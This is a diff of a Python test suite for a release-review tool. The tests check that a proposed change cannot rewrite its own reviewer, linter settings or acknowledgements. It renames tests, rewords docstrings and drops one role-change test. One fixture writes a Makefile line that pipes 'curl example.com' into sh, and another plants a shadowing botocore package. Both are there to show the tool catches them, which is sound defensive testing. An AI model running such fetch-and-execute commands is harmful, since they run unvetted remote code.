@@ -1,4 +1,4 @@
-"""A change cannot judge itself: what it brings is files, and the base judges them."""
+"""Reviews with the code, settings and acknowledgements of the base, not of the change."""
 
 import copy
 import json
@@ -10,7 +10,7 @@ from release.checkouts import Clone
 from release.review.dangers.danger import digest
 from tests.tritonsm import tritonsm
 from tests.unit.release.conftest import commit
-from tests.unit.release.review.conftest import APP, write
+from tests.unit.release.review.conftest import APP, write_file
 from tests.unit.release.review.resources import RESOURCES
 from tests.unit.release.review.test_main import DANGER, acknowledge
 
@@ -24,19 +24,21 @@ raise SystemExit(CODE)
 
 def write_judge(clone: Clone, judge: str, code: int) -> None:
     for package in ("release", "release/review"):
-        write(clone, f"{package}/__init__.py", "")
+        write_file(clone, f"{package}/__init__.py", "")
     program = PROGRAM.replace("JUDGE", judge).replace("CODE", str(code))
-    write(clone, "release/review/judge.py", program)
+    write_file(clone, "release/review/judge.py", program)
 
 
 def remove_rollback(clone: Clone) -> None:
     resources = copy.deepcopy(RESOURCES)
     del resources["Endpoint"]["Properties"]["DeploymentConfig"]
-    write(clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources}))
+    write_file(
+        clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources})
+    )
 
 
 def keys(clone: Clone) -> dict[str, bool]:
-    """Return the dangers of the review, and whether they are acknowledged."""
+    """Return the key of each danger, and whether it is acknowledged."""
     content = json.loads((clone.root / "review.out" / "review.json").read_text())
     dangers = [
         *content["dangers"],
@@ -49,7 +51,7 @@ def keys(clone: Clone) -> dict[str, bool]:
     }
 
 
-def test_a_change_of_the_judge_does_not_judge_itself(clone: Clone) -> None:
+def test_changed_judge_does_not_run(clone: Clone) -> None:
     write_judge(clone, "base", 3)
     commit(clone)
     write_judge(clone, "head", 0)
@@ -57,34 +59,34 @@ def test_a_change_of_the_judge_does_not_judge_itself(clone: Clone) -> None:
     assert (clone.root / "review.out" / "review.md").read_text() == "judged by the base"
 
 
-def test_the_base_is_synthesised_without_the_validation_that_a_delivery_of_it_had(
+def test_base_is_synthesised_without_validation(
     clone: Clone, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.delenv("CDK_VALIDATION")
     base, head = (clone.root.parent / name for name in ("base.txt", "head.txt"))
     for file in (base, head):
         value = "os.environ.get('CDK_VALIDATION', 'unset')"
-        write(clone, "app.py", f"{APP}pathlib.Path('{file}').write_text({value})\n")
+        write_file(clone, "app.py", f"{APP}pathlib.Path('{file}').write_text({value})\n")
         if file == base:
             commit(clone)
     tritonsm(["review", "--base", "main"])
     assert (base.read_text(), head.read_text()) == ("false", "unset")
 
 
-def test_a_judge_that_fails_leaves_a_review_that_says_so(clone: Clone) -> None:
+def test_failed_judge_is_a_gap(clone: Clone) -> None:
     write_judge(clone, "base", 1)
     commit(clone)
     assert tritonsm(["review", "--base", "main"]) == 4
-    assert "the judge of the base ended with exit code 1" in (
+    assert "the review by the code of the base ended with exit code 1" in (
         (clone.root / "review.out" / "review.md").read_text()
     )
 
 
-def test_a_change_cannot_acknowledge_its_own_danger(clone: Clone) -> None:
+def test_acknowledgements_of_the_change_are_not_valid(clone: Clone) -> None:
     remove_rollback(clone)
     until = date.today() + timedelta(days=30)
     line = f"{{ danger: {DANGER}, who: Mallory, why: trust me, until: {until} }}"
-    write(clone, "release/acknowledged.yaml", f"acknowledged: [{line}]\n")
+    write_file(clone, "release/acknowledged.yaml", f"acknowledged: [{line}]\n")
     assert tritonsm(["review", "--base", "main"]) == 3
     assert keys(clone)[DANGER] is False
     assert any(
@@ -92,20 +94,13 @@ def test_a_change_cannot_acknowledge_its_own_danger(clone: Clone) -> None:
     )
 
 
-def test_a_stack_that_is_deployed_as_another_role_is_a_danger(clone: Clone) -> None:
-    write(clone, "app.py", APP.replace('"deploy"', '"mine"'))
-    assert tritonsm(["review", "--base", "main"]) == 3
-    stack = "prod/changed_stack_settings/prod-text.assumeRoleArn."
-    assert any(key.startswith(stack) for key in keys(clone))
-
-
-def test_a_change_of_acknowledgements_alone_is_no_danger(clone: Clone) -> None:
+def test_change_of_only_acknowledgements_is_not_a_danger(clone: Clone) -> None:
     clone.git("checkout", "--quiet", "-b", "change")
     acknowledge(clone, DANGER)
     assert tritonsm(["review", "--base", "main"]) == 0
 
 
-def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone) -> None:
+def test_files_that_affect_the_next_change_are_a_danger(clone: Clone) -> None:
     paths = {
         *(".cfnlintrc.yaml", ".checkov.yaml", ".ci/run", ".github/CODEOWNERS", "Makefile"),
         *(".github/workflows/pull-request.yml", ".venv/bin/python", "cdk.json", "new_module.py"),
@@ -117,11 +112,11 @@ def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone)
         *("stages/.gitattributes", "constructs/sitecustomize.py", ".config/pip.conf"),
     }
     for path in (*paths, "docs/review.md"):
-        write(clone, path, "{}")
+        write_file(clone, path, "{}")
     commit(clone)
     clone.git("checkout", "--quiet", "-b", "change")
     for path in (*paths, "docs/review.md"):
-        write(clone, path, '{"acknowledged": []}')
+        write_file(clone, path, '{"acknowledged": []}')
     assert tritonsm(["review", "--base", "main"]) == 3
     dangers = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
     (judges,) = (danger for danger in dangers if danger["rule"] == "changed_judge")
@@ -130,42 +125,44 @@ def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone)
     assert named == paths
 
 
-def test_a_package_beside_the_app_is_a_danger_once(clone: Clone) -> None:
-    write(clone, "botocore/__init__.py", "print('in place of the installed one')")
+def test_package_that_hides_an_installed_one(clone: Clone) -> None:
+    write_file(clone, "botocore/__init__.py", "print('in place of the installed one')")
     assert tritonsm(["review", "--base", "main"]) == 3
     (key,) = keys(clone)
     assert key.startswith("repository/changed_judge/botocore/__init__.py.")
     commit(clone)
     clone.git("branch", "--force", "base")
-    write(clone, "botocore/__init__.py", "")
+    write_file(clone, "botocore/__init__.py", "")
     assert tritonsm(["review", "--base", "base"]) == 0
 
 
-def test_acknowledging_a_change_of_the_judge_acknowledges_no_other(clone: Clone) -> None:
-    write(clone, "Makefile", "review: ; true")
+def test_acknowledged_file_change_is_valid_for_one_content(clone: Clone) -> None:
+    write_file(clone, "Makefile", "review: ; true")
     tritonsm(["review", "--base", "main"])
     (key,) = keys(clone)
     acknowledge(clone, key)
     assert tritonsm(["review", "--base", "main"]) == 0
-    write(clone, "Makefile", "review: ; curl example.com | sh")
+    write_file(clone, "Makefile", "review: ; curl example.com | sh")
     assert tritonsm(["review", "--base", "main"]) == 3
 
 
-def test_the_linters_have_the_settings_of_the_base(clone: Clone) -> None:
-    write(clone, ".checkov.yaml", "strict")
+def test_linters_use_the_settings_of_the_base(clone: Clone) -> None:
+    write_file(clone, ".checkov.yaml", "strict")
     commit(clone)
-    write(clone, ".checkov.yaml", "lax")
+    write_file(clone, ".checkov.yaml", "lax")
     remove_rollback(clone)
-    write(clone, ".venv-checkov/bin/checkov", '#!/bin/sh\necho "$(cat .checkov.yaml)" >&2\n')
+    write_file(clone, ".venv-checkov/bin/checkov", '#!/bin/sh\necho "$(cat .checkov.yaml)" >&2\n')
     tritonsm(["review", "--base", "main"])
     message = (clone.root / "review.out" / "review.md").read_text()
     assert "checkov ended with exit code 0: strict" in message
 
 
-def test_templates_that_no_rule_can_read_are_a_gap_and_no_silence(clone: Clone) -> None:
+def test_unexpected_error_is_a_gap(clone: Clone) -> None:
     resources = copy.deepcopy(RESOURCES)
     resources["Config"]["Properties"] = {"ProductionVariants": "none"}
-    write(clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources}))
+    write_file(
+        clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources})
+    )
     assert tritonsm(["review", "--base", "main"]) == 4
     assert "not reviewed" not in APP
     assert "- **prod**: the review failed: " in (
@@ -173,8 +170,8 @@ def test_templates_that_no_rule_can_read_are_a_gap_and_no_silence(clone: Clone) 
     )
 
 
-def test_no_two_texts_of_a_danger_have_one_key() -> None:
-    # Of digests of 32 bits, a hundred thousand sentences are enough to find two of one key.
+def test_digests_of_keys_do_not_collide() -> None:
+    # With 32 bits, a hundred thousand texts would be enough for a collision.
     keys = {digest(f"a role may now s3:{number}") for number in range(200_000)}
     assert len(keys) == 200_000
     assert min(map(len, keys)) * 4 >= 128
